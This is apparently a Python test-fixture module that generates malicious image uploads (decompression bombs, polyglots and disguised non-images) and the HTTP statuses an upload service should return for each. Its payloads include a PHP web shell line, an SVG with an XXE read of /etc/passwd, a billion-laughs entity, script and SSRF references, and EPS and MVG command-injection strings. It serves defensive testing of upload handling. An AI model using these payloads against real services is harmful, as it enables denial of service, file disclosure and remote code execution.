"""Files that are no honest photos: larger inside than out, two things at once, damaged."""

import gzip
import io
import random
import struct
import zlib
from collections.abc import Iterator
from typing import Any

from PIL import Image

REFUSED = (400, 409, 413, 415, 422)
File = tuple[str, bytes, tuple[int, ...]]
"""What it is, its bytes, and which statuses are right."""


def picture(format: str = "JPEG", size: tuple[int, int] = (48, 32), **save: Any) -> bytes:
    """A small grey photo."""
    image = Image.linear_gradient("L").resize(size)
    out = io.BytesIO()
    image.save(out, format, **save)
    return out.getvalue()


def chunk(name: bytes, data: bytes) -> bytes:
    """A chunk of a PNG."""
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png(width: int, height: int, body: bytes, *before: bytes, depth: int = 8) -> bytes:
    """A grey PNG of any claimed size."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(before) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def bombs() -> Iterator[File]:
    """Files that are far larger inside than out."""
    zeros = zlib.compress(bytes(64 << 20), 9)
    jpeg = bytearray(picture("JPEG"))
    at = jpeg.index(b"\xff\xc0") + 5
    jpeg[at : at + 4] = struct.pack(">HH", 65500, 65500)
    gif = bytearray(picture("GIF"))
    gif[6:10] = struct.pack("<HH", 65535, 65535)
    tiff = io.BytesIO()
    pages = [Image.new("1", (4000, 4000)) for _ in range(30)]
    pages[0].save(tiff, "TIFF", save_all=True, append_images=pages[1:], compression="group4")
    loop = bytearray(picture("TIFF"))
    first = struct.unpack_from("<I", loop, 4)[0]
    entries = struct.unpack_from("<H", loop, first)[0]
    struct.pack_into("<I", loop, first + 2 + 12 * entries, first)
    files = {
        "60,000 pixels square": png(60000, 60000, zeros),
        "one bit deep": png(60000, 60000, zeros, depth=1),
        "16 bits deep": png(40000, 40000, zeros, depth=16),
        "the largest sides": png(2**31 - 1, 2**31 - 1, zeros),
        "one row": png(2**31 - 1, 1, zeros),
        "more rows than data": png(4000, 4000, zlib.compress(bytes(10))),
        "profile": png(48, 32, zlib.compress(bytes(33 * 48)), chunk(b"iCCP", b"x\0\0" + zeros)),
        "text": png(48, 32, zlib.compress(bytes(33 * 48)), chunk(b"zTXt", b"XML:com.adobe.xmp\0\0" + zeros)),
        "XMP": png(
            48, 32, zlib.compress(bytes(33 * 48)), chunk(b"iTXt", b"XML:com.adobe.xmp\0\1\0\0\0" + zeros)
        ),
        "JPEG": bytes(jpeg),
        "GIF": bytes(gif),
        "TIFF of 480 megapixels": tiff.getvalue(),
        "gzip": gzip.compress(bytes(64 << 20)),
    }
    for what, data in files.items():
        yield f"bomb: {what}", data, (200, *REFUSED) if what in ("profile", "text", "XMP") else REFUSED
    yield "bomb: TIFF whose pages go round", bytes(loop), (200, *REFUSED)


SVG = b"""<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>1</script>
<image href="http://127.0.0.1:1/"/><text>&x;&b;</text></svg>"""


def disguises() -> Iterator[File]:
    """Files that are two things at once, or none."""
    jpeg, shell = picture(), b"<?php system($_GET['c']); ?><script>alert(1)</script>"
    both = {
        "JPEG and zip": jpeg + b"PK\5\6" + bytes(18),
        "JPEG and page": jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(shell) + 2) + shell + jpeg[2:],
        "PNG and shell": picture("PNG") + shell,
        "GIF and script": picture("GIF") + b"*/=1;alert(1)//",
    }
    for what, data in both.items():
        yield f"polyglot: {what}", data, (200, *REFUSED)
    none = {
        "SVG": SVG,
        "SVG, compressed": gzip.compress(SVG),
        "SVG called JPEG": b"\xff\xd8\xff" + SVG,
        "PDF with JPEG": b"%PDF-1.7\n" + jpeg,
        "EPS": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%id) (r) file",
        "MVG": b"push graphic-context\nviewbox 0 0 9 9\nfill 'url(https://x/`id`)'\npop graphic-context",
        "program": b"\x7fELF" + bytes(200),
        "page": b"<!doctype html><script>alert(1)</script>",
        "nothing": b"",
        "zeros": bytes(5000),
        "GIF head": b"GIF89a/*" + bytes(40),
        "AVIF head": b"\0\0\0\x1cftypavif" + bytes(100),
        "HEIC head": b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\xff" * 100,
    }
    for what, data in none.items():
        yield f"no photo: {what}", data, REFUSED


def damaged(rng: random.Random) -> bytes:
    """A photo with some bytes changed, doubled or lost."""
    data = bytearray(picture(rng.choice(["JPEG", "PNG", "TIFF", "WEBP", "GIF", "BMP", "AVIF"])))
    for _ in range(rng.choice([1, 1, 3, 10, 50])):
        at = rng.randrange(len(data))
        match rng.randrange(4):
            case 0:
                data[at] ^= 1 << rng.randrange(8)
            case 1:
                data[at : at + 4] = rng.choice([b"\xff\xff\xff\xff", b"\0\0\0\0", b"\x7f\xff\xff\xff"])
            case 2:
                data[at:at] = data[at : at + rng.randrange(1, 100)]
            case _:
                del data[at : at + rng.randrange(1, 100)]
        data = data or bytearray(b"\0")
    return bytes(data)
